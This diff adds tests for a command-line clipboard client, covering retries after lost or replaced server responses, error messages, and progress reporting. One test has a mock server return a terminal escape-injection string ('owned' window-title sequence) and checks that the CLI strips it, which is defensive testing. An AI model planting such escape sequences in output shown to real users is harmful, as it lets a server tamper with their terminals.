+    return { ...proxy, replaced };
+  };
+
+  test.each([
+    '{"status":"login_required"}',
+    '<!doctype html><title>Sign in</title>',
+    '{"id":"x","captureId":"AAAAAAAAAAAAAAAAAAAAAAAA","content":"","createdAt":"","files":[]}',
+    'null',
+  ])('200 with %s counts as none: what is saved is saved once', async (made) => {
+    const proxy = await replacing(200, made);
+    const by = { CLIPLINE_URL: proxy.url };
+    const total = async () =>
+      (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
+    const before = await total();
+    const text = await clipline([], 'said twice', by);
+    expect([text.code, text.out.toString()]).toEqual([
+      0,
+      `${proxy.url}/clips/${(await newest()).id}\n`,
+    ]);
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    expect((await clipline(['push', 'a.txt', '--link'], '', by)).code).toBe(0);
+    expect(proxy.replaced.size).toBe(4);
+    expect([await total(), (await newest()).files.length]).toEqual([before + 2, 1]);
+    proxy.stop();
+  });
+
+  test('413 says where it came from', async () => {
+    const proxy = await replacing(413, '<h1>Too large</h1>');
+    const { code, told } = await clipline([], 'large', { CLIPLINE_URL: proxy.url });
+    expect([code, told]).toEqual([
+      1,
+      'Something in front of the server takes nothing this large: it answered 413.\n',
+    ]);
+    proxy.stop();
+  });
+
+  test('what it says does not steer the terminal', async () => {
+    const steering = 'http://x/\u001b]0;owned\u0007';
+    const server = createServer((request, response) => {
+      const captureId = request.headers['x-capture-id'];
+      const saved = { id: 'x', content: '', createdAt: '', files: [] };
+      const said = request.url?.endsWith('/text')
+        ? { ...saved, id: steering, captureId }
+        : { error: steering, code: 'X' };
+      response.writeHead(request.url?.endsWith('/text') ? 200 : 400).end(JSON.stringify(said));
+    });
+    server.listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    const { port } = server.address() as AddressInfo;
+    for (const args of ['', 'push a.txt --link', 'ls', 'login']) {
+      writeFileSync(path.join(here, 'a.txt'), 'in a file');
+      const run = `echo text | ${process.execPath} ${command} ${args}; true`;
+      const { stdout } = await promisify(execFile)('script', ['-qec', run, '/dev/null'], {
+        cwd: here,
+        env: { ...process.env, CLIPLINE_URL: `http://127.0.0.1:${port}`, CLIPLINE_TOKEN: token },
+      });
+      expect(stdout).not.toContain('\u001b');
+    }
+    server.close();
+  });
+});
+
+test('what takes longer than a second is told', async () => {
+  const released = Promise.withResolvers<boolean>();
+  const proxy = await between((sent) => !sent.includes('/files ') || released.promise);
+  writeFileSync(path.join(here, 'a.txt'), 'in a file');
+  const running = start(['push', 'a.txt'], { CLIPLINE_URL: proxy.url });
+  await expect.poll(running.told).toBe('Sending a.txt …\n');
+  released.resolve(true);
+  expect(await running.ended).toMatchObject({ code: 0, told: '' });
+  proxy.stop();
+});
+
+test('responses that are lost on the way: what is saved is saved once', async () => {
+  const proxy = await losingAnswers();
+  const by = { CLIPLINE_URL: proxy.url };
+  const total = async () =>
+    (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
+  const before = await total();
+  expect((await clipline([], 'said twice', by)).code).toBe(0);
+  const bytes = [randomBytes(100_000), randomBytes(1000)] as const;
+  for (const [at, content] of bytes.entries()) writeFileSync(path.join(here, `${at}.bin`), content);
+  expect((await clipline(['push', '0.bin', '1.bin'], '', by)).code).toBe(0);
+  expect(proxy.lost).toHaveLength(4);
+  expect(await total()).toBe(before + 2);
+  expect((await newest()).files.map((file: { name: string }) => file.name)).toEqual([
+    '0.bin',
+    '1.bin',
+  ]);
+  expect((await clipline(['pull', 'latest', '-o', '.'])).code).toBe(0);
+  for (const [at, content] of bytes.entries())
+    expect(readFileSync(path.join(here, `${at} (2).bin`))).toEqual(content);
+  proxy.stop();
+});
